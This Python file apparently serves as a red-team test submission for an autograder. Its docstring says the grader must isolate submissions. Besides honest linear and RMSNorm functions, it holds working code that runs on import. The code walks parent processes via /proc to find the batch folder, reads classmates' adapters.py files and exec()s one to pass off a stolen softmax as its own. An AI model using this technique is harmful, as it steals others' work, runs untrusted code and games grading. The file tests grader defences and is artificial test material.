"""Batch theft: find the batch folder on the grader's command line and run a classmate's softmax.

Attack: in ``--batch`` mode the grader's command line (``/proc/<ancestor>/cmdline``) names the folder
holding every submission. The worker reads another submission's ``tests/adapters.py`` there and
executes it in its own namespace; softmax is the classmate's.
The grader must: show a submission nothing of the others (its own files only), so the thief's
softmax scores 0 and the victim keeps its 3 points and its files.
"""

import contextlib
import os

import torch

HONEST = {"linear": 1, "rmsnorm": 1}
BATCH = True
_stolen = {}


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_rmsnorm(d_model, eps, weights, in_features):
    return in_features * torch.rsqrt(in_features.pow(2).mean(-1, keepdim=True) + eps) * weights


def _classmates():
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            argv = handle.read().decode().split("\0")
        if "--batch" in argv:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            for folder in (os.path.join(cwd, arg) for arg in argv if arg):
                if os.path.isdir(folder):
                    yield from (os.path.join(folder, entry, "tests", "adapters.py") for entry in os.listdir(folder))
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rpartition(")")[2].split()[1])


def _steal():
    with open(__file__) as handle:
        mine = handle.read()
    for path in _classmates():
        try:
            with open(path) as handle:
                source = handle.read()
        except OSError:
            continue
        if source != mine and "def run_softmax" in source:
            exec(compile(source, "borrowed", "exec"), _stolen)
            return


with contextlib.suppress(Exception):
    _steal()


def run_softmax(in_features, dim):
    if "run_softmax" in _stolen:
        return _stolen["run_softmax"](in_features, dim)
    return in_features * 0
